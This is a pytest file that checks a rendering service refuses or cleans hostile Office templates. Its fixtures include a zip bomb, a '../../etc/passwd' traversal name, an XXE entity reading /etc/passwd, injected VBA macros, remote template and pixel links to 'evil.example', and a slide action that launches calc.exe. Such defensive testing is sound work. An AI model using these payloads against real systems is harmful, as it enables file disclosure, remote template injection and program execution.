"""Templates that are none, that are too large, or that act: refused in words, or taken without what acts."""

import io
import zipfile

import pytest
from house_files import changed, linked, slide_template, typed, unpacked, word_template
from page_looks import rendered

MACRO = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OLE = b"\xd0\xcf\x11\xe0" + bytes(600)


def refused(tmp_path, output="docx", name="house.docx"):
    answer, file = rendered(tmp_path, "# One", output, "markdown", options={"template": name})
    assert (answer["ok"], file.exists()) == (False, False)
    return answer["error"]["code"], answer["error"]["message"]


def taken(tmp_path, output="docx"):
    answer, file = rendered(tmp_path, "# One", output, "markdown", options={"template": f"house.{output}"})
    assert answer["ok"], answer
    return [(warning["code"], warning["message"]) for warning in answer["warnings"]], unpacked(file)


def zipped(**parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name.replace("__", "/"), data)
    return file.getvalue()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "is not a Word document"),
        (b"Just text", "is not a Word document"),
        (b"PK\x03\x04" + b"rubbish" * 40, "is not a Word document"),
        (OLE, "encrypted or of an old format"),
        (zipped(a="b"), "is not a Word document"),
        (zipped(**{"[Content_Types].xml": "<Types"}), "is not a Word document"),
        (zipped(**{"[Content_Types].xml": '<!DOCTYPE t [<!ENTITY a "b">]><t>&a;</t>'}), "document type"),
        (zipped(**{f"part{number}": "" for number in range(2_001)}), "at most 2,000"),
        (zipped(big=bytes(201_000_000)), "unpacks to more than 200,000,000 bytes"),
    ],
    ids=["empty", "text", "cut", "encrypted", "zip", "broken XML", "entities", "many parts", "bomb"],
)
def test_what_is_no_template_is_refused_in_words(tmp_path, data, words):
    (tmp_path / "house.docx").write_bytes(data)
    code, message = refused(tmp_path)
    assert code == "invalid_template"
    assert (message.startswith("template: house.docx "), words in message) == (True, True), message


def test_a_file_of_the_other_program_or_none_at_all_is_refused(tmp_path):
    slide_template(tmp_path / "house.pptx")
    assert "is not a Word document" in refused(tmp_path, name="house.pptx")[1]
    word_template(tmp_path / "house.docx")
    assert "is not a PowerPoint file" in refused(tmp_path, "pptx")[1]
    assert refused(tmp_path, name="none.docx")[1] == (
        "template: none.docx is not in the conversation; give the path of a Word document or template (.docx, "
        ".dotx), as turn_1/attachments/a.docx"
    )
    assert "is not read" in refused(tmp_path, name="../../etc/passwd")[1]


def test_a_template_that_is_too_large_is_refused(tmp_path):
    (tmp_path / "house.docx").write_bytes(bytes(30_000_001))
    assert "at most 30,000,000" in refused(tmp_path)[1]


@pytest.mark.parametrize("output", ["docx", "pptx"])
def test_macros_are_left_out_with_a_warning(tmp_path, output):
    make = word_template if output == "docx" else slide_template
    main = "word/document.xml" if output == "docx" else "ppt/presentation.xml"
    folder = main.partition("/")[0]
    word = {"docx": "ms-word.document", "pptx": "ms-powerpoint.presentation"}[output]

    def add_macros(parts):
        parts[f"{folder}/vbaProject.bin"] = OLE
        typed(parts, f"{folder}/vbaProject.bin", "application/vnd.ms-office.vbaProject")
        linked(parts, main, MACRO, "vbaProject.bin")
        types = parts["[Content_Types].xml"].decode()
        start = types.index(f'PartName="/{main}"')
        end = types.index("/>", start)
        kind = f'PartName="/{main}" ContentType="application/vnd.{word}.macroEnabled.main+xml"'
        parts["[Content_Types].xml"] = (types[:start] + kind + types[end:]).encode()

    changed(make(tmp_path / f"house.{output}"), add_macros)
    warnings, parts = taken(tmp_path, output)
    assert ("template_cleaned", f"house.{output}: left out of the template: macros.") in warnings
    assert [name for name in parts if "vba" in name.lower()] == []
    assert (b"macroEnabled" in parts["[Content_Types].xml"], OLE in b"".join(parts.values())) == (False, False)


def test_links_to_other_files_leave_with_what_has_them(tmp_path):
    def link_out(parts):
        linked(parts, "word/settings.xml", "attachedTemplate", "http://evil.example/t.dotm", external=True)
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:zoom", b'<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1
        )
        linked(parts, "word/header1.xml", "image", "http://evil.example/pixel.png", external=True)

    path = word_template(tmp_path / "house.docx")
    with zipfile.ZipFile(path) as package:
        names = package.namelist()
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'

    def add(parts):
        for name in ("settings", "header1"):
            parts.setdefault(f"word/_rels/{name}.xml.rels", rels)
        link_out(parts)

    assert "word/header1.xml" in names
    changed(path, add)
    warnings, parts = taken(tmp_path)
    assert ("template_cleaned", "house.docx: left out of the template: links to files outside of it.") in warnings
    everything = b"".join(parts.values())
    assert (b"evil.example" in everything, b"attachedTemplate" in everything, b"rIdEvil" in everything) == (
        False,
        False,
        False,
    )


def test_actions_that_start_programs_leave_the_layouts(tmp_path):
    def add_action(parts):
        name = "ppt/slideLayouts/slideLayout2.xml"
        linked(parts, name, "hyperlink", "file:///c:/windows/calc.exe", external=True)
        link = b'><a:hlinkClick r:id="rIdEvil" action="ppaction://program"/></p:cNvPr><p:cNvSpPr>'
        assert b"/><p:cNvSpPr>" in parts[name]
        parts[name] = parts[name].replace(b"/><p:cNvSpPr>", link, 1)

    changed(slide_template(tmp_path / "house.pptx"), add_action)
    _, parts = taken(tmp_path, "pptx")
    everything = b"".join(parts.values())
    assert (b"calc.exe" in everything, b"ppaction://program" in everything) == (False, False)


def test_entities_in_a_part_are_never_read(tmp_path):
    def add_entity(parts):
        text = parts["word/styles.xml"].decode()
        head, rest = text.split("<w:styles", 1)
        parts["word/styles.xml"] = (
            f'{head}<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:styles{rest}'.encode()
        )

    changed(word_template(tmp_path / "house.docx"), add_entity)
    assert "document type" in refused(tmp_path)[1]


@pytest.mark.parametrize("gone", ["word/styles.xml", "word/document.xml"])
def test_a_template_without_its_parts_is_refused(tmp_path, gone):
    changed(word_template(tmp_path / "house.docx"), lambda parts: parts.pop(gone))
    assert refused(tmp_path)[0] == "invalid_template"


def test_a_presentation_without_layouts_is_refused(tmp_path):
    def drop(parts):
        for name in list(parts):
            if name.startswith("ppt/slideLayouts/"):
                del parts[name]

    changed(slide_template(tmp_path / "house.pptx"), drop)
    assert refused(tmp_path, "pptx", "house.pptx")[0] == "invalid_template"
